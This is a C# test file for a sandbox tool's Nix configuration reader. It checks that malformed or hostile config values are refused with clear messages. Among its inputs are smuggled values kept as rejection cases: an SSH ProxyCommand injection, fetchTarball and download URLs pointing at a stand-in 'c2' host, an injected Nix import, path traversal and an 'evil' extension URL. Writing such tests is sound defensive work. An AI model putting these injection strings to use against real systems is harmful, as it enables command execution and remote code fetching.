using System.Text;
using Sandbox.Core.Diagnostics;
using Sandbox.Core.Planning;
using Sandbox.Nix.Configuration;

namespace Sandbox.Nix.Tests.Generating;

/// <summary>Mistakes in the file behind --config, all of them at once.</summary>
public sealed class GeneratorFileTests
{
    [Theory]
    [InlineData("{ \"sources\": 1 }", "f: sources: unknown key: did you mean source?")]
    [InlineData("{ \"zzz\": 1 }", "f: zzz: unknown key: known are $schema, source, nixpkgs, overlays, backends, packages, extraPackages, chromium, chromiumExtensions, settings")]
    [InlineData("{ \"source\": 1 }", "f: source: must be a text: write flake:NAME, github:OWNER/REPOSITORY[/REF], gitlab:OWNER/REPOSITORY[/REF], git+https://HOST/PATH or path:/DIRECTORY")]
    [InlineData("{ \"packages\": \"git\" }", "f: packages: must be a list, [ ... ]")]
    [InlineData("{ \"packages\": [1] }", "f: packages[0]: must be a text: write a package's name in nixpkgs, as in ripgrep or python3Packages.pip")]
    [InlineData("{ \"backends\": \"vm\" }", "f: backends: must be a list, [ ... ]")]
    [InlineData("{ \"backends\": [] }", "f: backends: none is left: write at least one of native, bubblewrap, container, vm")]
    [InlineData("{ \"backends\": [\"docker\"] }", "f: backends[0]: docker: write one of native, bubblewrap, container, vm")]
    [InlineData("{ \"backends\": [\"vm\", 1] }", "f: backends[1]: must be a text: write one of native, bubblewrap, container, vm")]
    [InlineData("{ \"backends\": [\"vm\", \"vm\"] }", "f: backends[1]: vm: given twice: keep one of the two")]
    [InlineData("{ \"overlays\": [\"github:a/b\"] }", "f: overlays: must be an object, { \"NAME\": \"FLAKE\" }")]
    [InlineData("{ \"overlays\": { \"a\": \"path:/a\", \"a\": \"path:/b\" } }", "f: overlays.a: given twice: keep one of the two")]
    [InlineData("{ \"overlays\": { \"a\": 1 } }", "f: overlays.a: must be a text: write flake:NAME, github:OWNER/REPOSITORY[/REF], gitlab:OWNER/REPOSITORY[/REF], git+https://HOST/PATH or path:/DIRECTORY")]
    [InlineData("{ \"chromium\": \"yes\" }", "f: chromium: must be true or false")]
    [InlineData("{ \"chromiumExtensions\": [\"https://evil/x.crx\"] }", "f: chromiumExtensions[0]: https://evil/x.crx: write an extension's id, 32 letters from a to p")]
    [InlineData("{ \"settings\": [] }", "f: settings: must be an object, { ... }")]
    [InlineData("{ \"settings\": {}, \"settings\": {} }", "f: settings: given twice: keep one of the two")]
    [InlineData("[]", "f: must hold an object, { ... }")]
    [InlineData("{", "f: not JSON at line 1: correct it there")]
    [InlineData("{\n\"a\" 1}", "f: not JSON at line 2: correct it there")]
    [InlineData("", "f: not JSON at line 1: correct it there")]
    public void A_mistake_is_one_line(string json, string message) => Assert.Equal([message], Mistakes(json));

    [Fact]
    public void All_mistakes_are_reported_together() =>
        Assert.Equal(3, Mistakes("""{ "source": "x", "packages": ["a b"], "extra": 1 }""").Length);

    [Theory]
    [InlineData("flake:claude-sandbox")]
    [InlineData("github:NixOS/nixpkgs")]
    [InlineData("github:NixOS/nixpkgs/nixos-24.05")]
    [InlineData("gitlab:a/b/v1.0")]
    [InlineData("git+https://git.example:8443/a/b.git")]
    [InlineData("path:/home/u/flake")]
    public void Flakes_are_named_by_their_place(string reference) => Assert.Empty(Mistakes($$"""{ "source": "{{reference}}" }"""));

    [Theory]
    [InlineData("github:a/b?rev=..#x")]
    [InlineData("github:a/b#x")]
    [InlineData("github:a/../b")]
    [InlineData("path:/etc/../x")]
    [InlineData("path:relative")]
    [InlineData("git+ssh://-oProxyCommand=x/")]
    [InlineData("git+https://-oProxyCommand=x/y")]
    [InlineData("file://x")]
    [InlineData("git+file://..")]
    [InlineData("http://c2/x.tar.gz")]
    [InlineData("https://c2/x.tar.gz")]
    [InlineData("nixpkgs")]
    [InlineData("github:a/b\\n")]
    [InlineData("github:${x}/b")]
    [InlineData("")]
    public void GN_06_other_references_are_refused(string reference)
    {
        Assert.Contains("write flake:NAME", Assert.Single(Mistakes($$"""{ "source": "{{reference}}" }""")), StringComparison.Ordinal);
        Assert.Contains("write flake:NAME", Assert.Single(Mistakes($$"""{ "nixpkgs": "{{reference}}" }""")), StringComparison.Ordinal);
        Assert.Contains("write flake:NAME", Assert.Single(Mistakes($$"""{ "overlays": { "a": "{{reference}}" } }""")), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("nixpkgs")]
    [InlineData("self")]
    [InlineData("claude-sandbox")]
    [InlineData("a.b")]
    [InlineData("${x}")]
    [InlineData("A")]
    [InlineData("-a")]
    [InlineData("")]
    [InlineData("a\\n")]
    public void GN_03_an_overlay_s_name_is_a_plain_one(string name) =>
        Assert.EndsWith(": write a name of small letters, digits and hyphens that is not nixpkgs or claude-sandbox or self", Assert.Single(Mistakes($$"""{ "overlays": { "{{name}}": "path:/a" } }""")), StringComparison.Ordinal);

    [Theory]
    [InlineData("pkgs.hello; import /tmp/x.nix")]
    [InlineData("(builtins.fetchTarball \\\"http://C2\\\")")]
    [InlineData("pkgs.${\\\"a\\\"}")]
    [InlineData("a..b")]
    [InlineData(".a")]
    [InlineData("a.")]
    [InlineData("")]
    [InlineData("a\\n")]
    [InlineData("\u0661")]
    [InlineData("\\ud800")]
    public void GN_05_what_is_no_package_s_name_is_refused(string name)
    {
        Assert.Contains("write a package's name in nixpkgs", Assert.Single(Mistakes($$"""{ "packages": ["{{name}}"] }""")), StringComparison.Ordinal);
        Assert.Contains("extraPackages[0]", Assert.Single(Mistakes($$"""{ "extraPackages": ["{{name}}"] }""")), StringComparison.Ordinal);
    }

    [Fact]
    public void GN_20_values_of_variables_do_not_go_into_the_store()
    {
        string mistake = Assert.Single(Mistakes("""{ "settings": { "env": ["EDITOR", "TOKEN=CANARY-7"] } }"""));
        Assert.Equal("f: settings.env: a value would lie in the Nix store, where everybody reads it: write the variable's name alone, and it is taken from the environment", mistake);
        Assert.Empty(Mistakes("""{ "settings": { "env": ["EDITOR"] } }"""));
    }

    [Fact]
    public void Bytes_that_are_no_text_are_refused()
    {
        Findings findings = new();
        _ = GeneratorFile.Read([0x7b, 0xff, 0x7d], "f", findings);
        Assert.Equal("f: not UTF-8: save it as UTF-8", Assert.Throws<SandboxException>(findings.ThrowIfAny).Message);
    }

    private static string[] Mistakes(string json)
    {
        Findings findings = new();
        _ = GeneratorFile.Read(Encoding.UTF8.GetBytes(json), "f", findings);
        try
        {
            findings.ThrowIfAny();
            return [];
        }
        catch (SandboxException e)
        {
            Assert.Equal(ErrorCode.Configuration, e.Code);
            return [e.Message, .. e.Others];
        }
    }
}
